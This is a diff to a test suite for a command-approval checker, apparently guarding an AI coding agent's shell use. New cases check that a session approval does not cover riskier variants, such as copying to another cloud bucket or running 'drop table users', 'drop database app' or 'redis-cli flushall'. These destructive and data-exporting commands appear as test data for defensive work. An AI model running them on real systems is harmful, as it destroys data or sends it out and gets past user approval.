@@ -36,7 +36,7 @@ describe('attack: an approved command pointed at a place outside the project', (
 
   for (const [approved, later, place] of PAIRS) {
     it(`\`${later}\` names ${place}, and a yes for the session to \`${approved}\` does not cover it`, async () => {
-      expect(reasons(later)).toContain(`names a path outside the project (${place})`);
+      expect(reasons(later)).toContain(`names a place outside the project (${place})`);
       expect(await askedAfterSessionAnswer(approved, later, PROJECT)).toEqual([later]);
     });
   }
@@ -55,7 +55,7 @@ describe('attack: an approved command pointed at a place outside the project', (
 
   it('paths in the project, temp folders and devices are no places to name', () => {
     for (const line of ['cp a.txt ./b.txt', 'cp a.txt /work/project/sub/b.txt', 'cp a.txt /tmp/b.txt', 'dd if=a.img of=/dev/null', 'cp a sub/../b']) {
-      expect(reasons(line).filter((r) => r.startsWith('names a path outside')), line).toEqual([]);
+      expect(reasons(line).filter((r) => r.startsWith('names a place outside')), line).toEqual([]);
     }
   });
 
@@ -199,5 +199,31 @@ describe('attack: an approved setting that runs a program, given another value',
   it('the same value again is covered, and an ordinary variable keeps the broad key', async () => {
     expect(await askedAfterSessionAnswer('EDITOR=vim git commit', 'EDITOR=vim git commit', PROJECT)).toEqual([]);
     expect(await askedAfterSessionAnswer('NODE_ENV=test npm test', 'NODE_ENV=production npm test', PROJECT)).toEqual([]);
+  });
+});
+
+// Attack: the same approved command sent to another bucket, or another query run. `aws s3 cp dist.tar s3://ours/` was
+// keyed `aws s3 *` with "not a known read-only command", and so was `aws s3 cp dist.tar s3://theirs/`; `psql -c
+// "select 1"` covered `psql -c "drop table users"`. A URL an asked command is given is a place outside the project,
+// named like a path (ADR 0099); database clients run the statements in their words and are keyed by exact text.
+describe('attack: an approved command pointed at another bucket, or given another statement', () => {
+  const PAIRS: ReadonlyArray<readonly [approved: string, later: string]> = [
+    ['aws s3 cp dist.tar s3://ours/', 'aws s3 cp dist.tar s3://theirs/'],
+    ['gsutil cp dist.tar gs://ours/x', 'gsutil cp dist.tar gs://theirs/x'],
+    ['psql -c "select 1"', 'psql -c "drop table users"'],
+    ['mysql -e "select 1"', 'mysql -e "drop database app"'],
+    ['sqlite3 app.db "select 1"', 'sqlite3 app.db "delete from users"'],
+    ['redis-cli ping', 'redis-cli flushall'],
+  ];
+  for (const [approved, later] of PAIRS) {
+    it(`a yes for the session to \`${approved}\` does not cover \`${later}\``, async () => {
+      expect(await askedAfterSessionAnswer(approved, later, PROJECT)).toEqual([later]);
+    });
+  }
+
+  it('a URL is named once, and not for a tool that says which host it reaches', () => {
+    expect(reasons('aws s3 cp dist.tar s3://theirs/')).toContain('names a place outside the project (s3://theirs/)');
+    expect(reasons('npm install https://pkgs.example/x.tgz').filter((r) => r.includes('https://pkgs.example/x.tgz'))).toHaveLength(1);
+    expect(reasons('curl https://api.example/v1').some((r) => r.startsWith('names a place'))).toBe(false);
   });
 });
